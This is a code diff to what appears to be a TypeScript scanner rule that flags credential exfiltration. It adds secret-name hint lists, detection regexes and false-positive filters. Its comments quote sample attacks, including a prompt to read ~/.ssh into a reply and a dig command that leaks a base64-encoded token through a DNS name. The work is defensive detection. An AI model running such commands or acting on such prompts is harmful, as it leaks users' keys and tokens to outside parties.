@@ -1,5 +1,6 @@
 // Exfiltration: credentials or the environment read next to something that sends data away, in
 // commands or in prose ("read ~/.ssh and include it in your reply"), and the hosts data goes to.
+import { mentionedOnly } from "../context.js";
 import type { AuditLine, AuditText, TextHit } from "../rule-types.js";
 import {
   anyIn,
@@ -16,8 +17,10 @@ import {
 } from "../text.js";
 import {
   COLLECT,
+  CREDENTIAL_HINTS,
   CREDENTIAL_RE,
   ENV_DUMP,
+  ENV_DUMP_HINTS,
   hostOf,
   isExfilHost,
   isPublicIp,
@@ -27,10 +30,33 @@ import {
   WEBHOOK_URL,
 } from "../vocab.js";
 
+/** The hint words of the credential rule: paths, environment dumps, and secrets named in prose. */
+export const CREDENTIAL_EXFIL_HINTS = [
+  ...CREDENTIAL_HINTS,
+  ...ENV_DUMP_HINTS,
+  "ssh key",
+  "private key",
+  "signing key",
+  "deploy key",
+  "passwords",
+  "session cookies",
+  "credentials",
+  "token",
+  "secret",
+  "password",
+  "passwd",
+  "api_key",
+  "apikey",
+  "access_key",
+  "credential",
+  "getenv",
+  "keys",
+];
+
 const ENV_DUMP_RE = new RegExp(ENV_DUMP, "gi");
 /** Credentials named in prose rather than by path. */
 const CREDENTIAL_NOUNS =
-  /\b(?:SSH|private|signing|deploy)\s+keys?\b|\bSSH\s+key\s+(?:folder|directory|files?)\b|\b(?:saved|browser|stored)\s+passwords\b|\bsession\s+cookies\b|\bseed\s+phrases?\b|\b(?:cloud|AWS|GCP|Azure)\s+credentials\b/gi;
+  /\b[A-Z][A-Z0-9_]{0,40}_(?:TOKEN|SECRET|API_KEY|ACCESS_KEY|SECRET_KEY|PASSWORD)S?\b|\b(?:session|auth|access|API|bearer|refresh|OAuth|GitHub|npm|cloud)\s+(?:tokens?|keys|secrets)\b|\b(?:SSH|private|signing|deploy)\s+keys?\b|\bSSH\s+key\s+(?:folder|directory|files?)\b|\b(?:saved|browser|stored)\s+passwords\b|\bsession\s+cookies\b|\bseed\s+phrases?\b|\b(?:cloud|AWS|GCP|Azure)\s+credentials\b/gi;
 const PROSE_SINK_ONE = new RegExp(PROSE_SINK.source, "i");
 const NETWORK_SINK_ONE = new RegExp(NETWORK_SINK.source, "i");
 const COLLECT_ALL = new RegExp(COLLECT.source, "gi");
@@ -46,6 +72,46 @@ function sinkLines(text: string, starts: readonly number[], blocks: Blocks): Set
       if (isExfilHost(m[1]!) || isPublicIp(m[1]!)) out.add(lineOf(starts, b.from + m.index));
     });
   for (const h of hitsIn(WEBHOOK_URL, text, blocks)) out.add(lineOf(starts, h.index));
+  return out;
+}
+
+/** A request's authentication: where an API key or token belongs. */
+const AUTH_USE = /\b(?:headers?|authori[sz]ation|bearer|authenticat\w{1,6}|x-api-key)\b/i;
+/** "never upload", "do not send": the sentence forbids what it names. */
+const FORBIDS = /\b(?:never|don['’]?t|do\s+not|must\s+not|should\s+not|avoid|without)\b[^.!?\n]{0,80}$/i;
+const forbidden = (text: string, index: number): boolean =>
+  FORBIDS.test(text.slice(Math.max(0, index - 80), index));
+
+/** A secret held in an environment variable, by its name (…_TOKEN, …_SECRET, …API_KEY, …PASSWORD). */
+const SECRET_VAR =
+  "[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)[A-Z0-9_]{0,40}";
+const SECRET_ENV = new RegExp(
+  String.raw`\bos\.environ(?:\.get)?\s*[[(]\s*["']${SECRET_VAR}["']|\bos\.getenv\(\s*["']${SECRET_VAR}["']|\bprocess\.env(?:\.|\[["'])${SECRET_VAR}\b|\$\{?${SECRET_VAR}\b|\$\(${SECRET_VAR}\)|\$env:${SECRET_VAR}\b|\bENV\[["']${SECRET_VAR}["']`,
+);
+const DNS_LOOKUP =
+  /(?:^|[;&|(`]|\$\(|\bsystem\(\s*f?["']|\bpopen\(\s*f?["'])\s*(?:dig|nslookup|host|drill)\s|\b(?:Resolve-DnsName|gethostbyname|getaddrinfo|dns\.resolve\w{0,6}|dns\.lookup)\b/;
+const ENCODES =
+  /\b(?:b64encode|b32encode|base64|btoa|hexlify|xxd|encodeURIComponent|Buffer\.from|ToBase64String)\b|\.hex\(\)/i;
+
+/**
+ * A secret environment variable on its way out: inside a DNS name (`dig $(echo $TOKEN | base64).x.net`),
+ * or encoded and sent in a request body within a few lines. Sent as it is, a secret goes to its own
+ * service (an OAuth client secret, an API key in a header): that alone is not flagged.
+ */
+function secretEnvFlows(text: string, starts: readonly number[], lines: readonly AuditLine[]): TextHit[] {
+  const out: TextHit[] = [];
+  for (const l of lines) {
+    if (!SECRET_ENV.test(l.text)) continue;
+    if (DNS_LOOKUP.test(l.text)) {
+      out.push({ index: l.index, length: l.text.length });
+      continue;
+    }
+    if (!ENCODES.test(l.text) || AUTH_USE.test(l.text)) continue;
+    const b = boundsAround(text, starts, l.index, 0, 5, 2000);
+    const after = text.slice(b.from, b.to);
+    if (NETWORK_SINK_ONE.test(after) && !AUTH_USE.test(after))
+      out.push({ index: l.index, length: l.text.length });
+  }
   return out;
 }
 
@@ -65,7 +131,12 @@ export function credentialExfiltration(file: AuditText, lines: readonly AuditLin
   const at = [...creds, ...dumps, ...nouns].map((h) => lineOf(starts, h.index));
   const blocks = blocksNear(text, starts, at, NEAR_LINES);
   const sinks = sinkLines(text, starts, blocks);
-  const prose = new Set(hitsIn(PROSE_SINK, text, blocks).map((h) => lineOf(starts, h.index)));
+  // "Do not pass it as a --token flag": a sink the sentence forbids is no sink.
+  const prose = new Set(
+    hitsIn(PROSE_SINK, text, blocks)
+      .filter((h) => !forbidden(text, h.index))
+      .map((h) => lineOf(starts, h.index)),
+  );
   // Where a read or collect verb is, found once: a window per credential would be quadratic on a
   // long line of credential paths. A verb counts on the line before, the same or the next, within
   // REACH characters of the credential.
@@ -77,12 +148,25 @@ export function credentialExfiltration(file: AuditText, lines: readonly AuditLin
   const out: TextHit[] = [];
   for (const h of creds) {
     const l = lineOf(starts, h.index);
+    if (forbidden(text, h.index) || mentionedOnly(file, h.index)) continue;
     const c = collects(h.index);
     if (near(sinks, l, NEAR_LINES) && (c || near(sinks, l, 3))) out.push(h);
     else if (c && near(prose, l, 3)) out.push(h);
   }
   // Prose: "open the SSH key folder … and paste the private keys in your answer".
-  for (const h of nouns) if (collects(h.index) && near(prose, lineOf(starts, h.index), 1)) out.push(h);
+  for (const h of nouns) {
+    const l = lineOf(starts, h.index);
+    if (!collects(h.index) || !near(prose, l, 1) || forbidden(text, h.index)) continue;
+    // A token or key sent in a request's auth header is how an API is used, not a leak.
+    const b = boundsAround(text, starts, h.index, 1, 1);
+    if (
+      AUTH_USE.test(text.slice(b.from, b.to)) &&
+      !/\b(?:SSH|private|signing|deploy|seed)\b/i.test(text.slice(h.index, h.index + h.length))
+    )
+      continue;
+    out.push(h);
+  }
+  out.push(...secretEnvFlows(text, starts, lines));
   for (const h of dumps) {
     const l = lineOf(starts, h.index);
     if (near(sinks, l, 5) || near(prose, l, 1)) out.push(h);
